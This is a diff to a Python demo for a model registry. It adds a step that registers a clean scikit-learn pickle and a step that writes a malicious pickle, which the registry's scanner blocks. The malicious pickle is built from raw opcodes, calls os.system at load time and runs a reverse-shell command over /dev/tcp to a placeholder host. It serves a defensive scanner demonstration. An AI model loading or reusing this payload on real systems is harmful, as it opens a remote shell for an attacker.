@@ -58,7 +58,8 @@ def run_demo(console: Console, *, keep: bool = False) -> dict[str, Any]:
         step("train and log model", lambda: _train_and_log(client, csv, out))
         step("set alias", lambda: _alias(client, out))
         step("register prompt", lambda: _prompt(client, out))
-        step("gate blocks a pickle", lambda: _blocked_pickle(client, work, out))
+        step("scan: clean pickle allowed", lambda: _clean_pickle(client, work, out))
+        step("scan: malicious pickle blocked", lambda: _blocked_pickle(client, work, out))
         step("load champion", lambda: _load_champion(client, csv, out))
         step("walk lineage", lambda: _lineage(client, out))
 
@@ -122,12 +123,40 @@ def _prompt(client: LocalClient, out: dict[str, Any]) -> str:
     )
 
 
+# What a reverse-shell pickle found on a public hub looks like: os.system at load time.
+# Assembled from opcodes, so writing it never needs a dangerous object.
+_MALICIOUS = (
+    b"\x80\x04\x8c\x02os\x94\x8c\x06system\x94\x93\x94"
+    b"\x8c\x17sh -i >& /dev/tcp/x/9 0\x94\x85\x94R\x94."
+)
+
+
+def _clean_pickle(client: LocalClient, work: Path, out: dict[str, Any]) -> str:
+    """A scikit-learn model pickled the usual way: every import is on the allowlist."""
+    from sklearn.linear_model import LogisticRegression
+
+    frame = _frame(work / "iris.csv")
+    model = LogisticRegression(max_iter=500).fit(frame.drop(columns="target"), frame["target"])
+    path = work / "team-model.pkl"
+    path.write_bytes(pickle.dumps(model))
+    info = client.register_model("team-pickle", path, license="MIT")
+    out["clean"] = info
+    return f"{info.ref} status={info.status}: {info.format}, every import on the allowlist"
+
+
 def _blocked_pickle(client: LocalClient, work: Path, out: dict[str, Any]) -> str:
-    path = work / "model.pkl"
-    path.write_bytes(pickle.dumps({"weights": [1, 2, 3]}))
-    info = client.register_model("untrusted-pickle", path)
+    path = work / "pytorch_model.bin"
+    path.write_bytes(_MALICIOUS)
+    info = client.register_model("downloaded-model", path)
     out["blocked"] = info
-    return f"{info.ref} status={info.status}: {info.findings[0]['code']}"
+    finding = info.findings[0]
+    return f"{info.ref} status={info.status}: {finding['message']}"
+
+
+def _frame(csv: Path) -> Any:
+    import pandas as pd
+
+    return pd.read_csv(csv)
 
 
 def _load_champion(client: LocalClient, csv: Path, out: dict[str, Any]) -> str:
